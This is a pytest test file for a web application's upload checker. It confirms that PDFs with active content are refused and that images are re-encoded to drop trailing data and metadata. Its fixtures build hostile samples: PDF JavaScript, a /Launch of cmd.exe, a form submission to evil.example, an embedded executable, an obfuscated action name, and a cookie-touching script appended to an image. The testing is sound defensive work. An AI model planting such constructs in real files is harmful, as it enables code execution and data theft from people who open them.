"""Uploads: PDFs with active content are refused with a translated message; images are
stored re-encoded, so nothing that trails or hides in them is kept."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from applications.uploads import check_upload, private_storage, store_document

from .conftest import image_bytes, pdf_bytes, upload


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript in the names tree (runs when the file opens)."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hello');"),
        }
    )
    names = ArrayObject([TextStringObject("init"), writer._add_object(script)])
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )
    return written(writer)


def pdf_with_open_action(action: str, **extra) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    act = DictionaryObject({NameObject("/S"): NameObject(action)})
    for key, value in extra.items():
        act[NameObject(f"/{key}")] = TextStringObject(value)
    writer._root_object[NameObject("/OpenAction")] = act
    return written(writer)


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    return written(writer)


def pdf_with_xfa() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/XFA"): TextStringObject("<xdp:xdp/>"),
            NameObject("/Fields"): DictionaryObject(),
        }
    )
    return written(writer)


def hand_written_pdf(open_action: bytes) -> bytes:
    """A minimal PDF written by hand, so names can be obfuscated (``#61`` is "a")."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + open_action + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(pdf_with_javascript(), id="document-javascript"),
        pytest.param(pdf_with_open_action("/JavaScript", JS="app.alert(1)"), id="open-action-js"),
        pytest.param(pdf_with_open_action("/Launch", F="cmd.exe"), id="launch"),
        pytest.param(pdf_with_open_action("/SubmitForm", F="https://evil.example/"), id="submit"),
        pytest.param(pdf_with_attachment(), id="embedded-file"),
        pytest.param(pdf_with_xfa(), id="xfa"),
        pytest.param(
            hand_written_pdf(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"), id="obfuscated-name"
        ),
    ],
)
def test_pdfs_with_active_content_are_refused(content):
    with pytest.raises(ValidationError) as caught:
        check_upload(upload("antrag.pdf", content))
    assert caught.value.code == "active_pdf"
    assert "antrag.pdf" in caught.value.messages[0]


def test_a_plain_pdf_and_a_hand_written_one_without_actions_pass():
    assert check_upload(upload("a.pdf", pdf_bytes())).kind == "pdf"
    plain = hand_written_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert check_upload(upload("b.pdf", plain)).kind == "pdf"


def test_the_message_is_translated():
    with translation.override("uk"), pytest.raises(ValidationError) as caught:
        check_upload(upload("antrag.pdf", pdf_with_javascript()))
    assert "PDF" in caught.value.messages[0]
    assert "active content" not in caught.value.messages[0]


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_a_trailing_payload_is_gone_from_the_stored_image(fmt):
    payload = b"<html><script>alert(document.cookie)</script></html>"
    checked = check_upload(upload(f"photo.{fmt.lower()}", image_bytes(fmt) + payload))
    assert payload not in checked.content
    with Image.open(io.BytesIO(checked.content)) as image:
        assert image.format == fmt and image.size == (40, 30)


def test_image_metadata_such_as_the_place_of_a_photo_is_dropped():
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # camera make
    buffer = io.BytesIO()
    Image.new("RGB", (20, 20), (1, 2, 3)).save(buffer, format="JPEG", exif=exif)
    assert b"SecretCam" in buffer.getvalue()
    checked = check_upload(upload("photo.jpg", buffer.getvalue()))
    assert b"SecretCam" not in checked.content


def test_the_stored_file_is_the_re_encoded_image():
    payload = b"<html>trailing</html>"
    name = store_document(
        upload=upload("photo.jpg", image_bytes("JPEG") + payload), file_number="ABH-1", code="photo"
    )
    with private_storage().open(name) as stored:
        data = stored.read()
    assert payload not in data
    assert data.startswith(b"\xff\xd8\xff")
